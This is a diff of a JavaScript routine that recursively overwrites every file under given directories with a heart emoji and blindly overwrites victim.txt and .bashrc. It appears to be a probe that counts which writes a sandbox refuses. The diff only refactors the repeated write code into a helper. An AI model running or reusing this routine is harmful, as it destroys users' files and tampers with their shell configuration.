@@ -8,6 +8,15 @@ const path = require('path');
 
 function overwriteEverything(extraRoots) {
   const result = { overwritten: [], refused: 0, codes: {} };
+  const overwrite = (file) => {
+    try {
+      fs.writeFileSync(file, '❤️');
+      result.overwritten.push(file);
+    } catch (error) {
+      result.refused++;
+      result.codes[error.code] = (result.codes[error.code] || 0) + 1;
+    }
+  };
   const visit = (dir, depth) => {
     let entries;
     try {
@@ -28,25 +37,13 @@ function overwriteEverything(extraRoots) {
         if (depth < 3) visit(file, depth + 1);
         continue;
       }
-      try {
-        fs.writeFileSync(file, '❤️');
-        result.overwritten.push(file);
-      } catch (error) {
-        result.refused++;
-        result.codes[error.code] = (result.codes[error.code] || 0) + 1;
-      }
+      overwrite(file);
     }
   };
   for (const root of ['./', ...extraRoots]) visit(root, 0);
   // Blind writes to well-known files, without listing first.
   for (const file of ['./victim.txt', ...extraRoots.flatMap((r) => [path.join(r, 'victim.txt'), path.join(r, '.bashrc')])]) {
-    try {
-      fs.writeFileSync(file, '❤️');
-      result.overwritten.push(file);
-    } catch (error) {
-      result.refused++;
-      result.codes[error.code] = (result.codes[error.code] || 0) + 1;
-    }
+    overwrite(file);
   }
   return result;
 }
